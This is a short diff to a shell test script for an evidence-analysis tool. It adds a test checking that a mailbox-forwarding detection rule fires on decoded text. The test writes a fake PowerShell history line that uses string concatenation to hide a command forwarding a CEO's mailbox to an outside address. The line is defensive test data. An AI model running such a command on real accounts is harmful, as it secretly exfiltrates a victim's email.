@@ -120,4 +120,9 @@ PY
 else
     skip "evidence that we did not write" "../shared/data is not here"
 fi
+# Rules see what a text decodes, too.
+echo "iex ('Set-Mail'+'box ceo@c.test -Forward'+'ingSmtpAddress x@e.test')" >ConsoleHost_history.txt
+"$UNGRANT" analyze ConsoleHost_history.txt -o decoded >/dev/null 2>&1
+ok "a rule matches what only the decoded text holds" sh -c \
+    "! grep -q ForwardingSmtp ConsoleHost_history.txt && jq -e '.rules|index(\"mailbox_forwarding_set\")' decoded/timeline.jsonl"
 finish
